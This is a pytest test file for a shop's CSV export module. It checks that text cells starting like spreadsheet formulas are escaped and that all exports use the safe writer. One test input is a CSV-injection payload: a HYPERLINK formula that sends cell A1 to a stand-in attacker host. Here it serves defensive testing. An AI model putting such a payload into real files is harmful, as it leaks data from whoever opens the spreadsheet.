"""shop.csv: the one CSV writer; no cell of an export can run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from shop.csv import csv_cell, csv_writer

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "=1+2",
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+2",
        "\r=1+2",
    ],
)
def test_it_neutralises_a_text_cell_that_starts_like_a_formula(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Rosa Diaz", "1 Main St", "Springfield", "a=b", ""])
def test_it_leaves_ordinary_text_alone(text):
    assert csv_cell(text) == text


def test_numbers_stay_numbers_even_when_negative():
    assert csv_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert csv_cell(-3) == -3
    assert csv_cell(-0.5) == -0.5


def test_it_writes_none_as_empty_and_dates_in_iso():
    assert csv_cell(None) == ""
    assert csv_cell(date(2026, 11, 5)) == "2026-11-05"


def test_the_writer_reads_back_with_the_quote_on_text_and_numbers_plain():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerows([["Name", "Balance"], ["=1+2", Decimal("-12.50")]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["Name", "Balance"],
        ["'=1+2", "-12.50"],
    ]


def test_every_csv_writer_in_the_project_goes_through_shop_csv():
    """A new export (payments, parts, imports) must use shop.csv.csv_writer, not csv.writer."""
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "node_modules"} or relative == Path(
            "shop/csv.py"
        ):
            continue
        if pattern.search(path.read_text(encoding="utf-8", errors="replace")):
            offenders.append(str(relative))
    assert offenders == [], f"write CSV with shop.csv.csv_writer in: {offenders}"
